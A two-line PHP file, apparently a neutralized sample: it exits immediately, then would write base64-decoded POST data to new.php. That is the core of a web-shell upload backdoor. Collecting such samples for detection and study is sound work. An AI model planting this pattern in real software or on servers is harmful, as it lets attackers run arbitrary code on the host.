<?php exit;
file_put_contents("new.php", base64_decode($_POST["data"]));
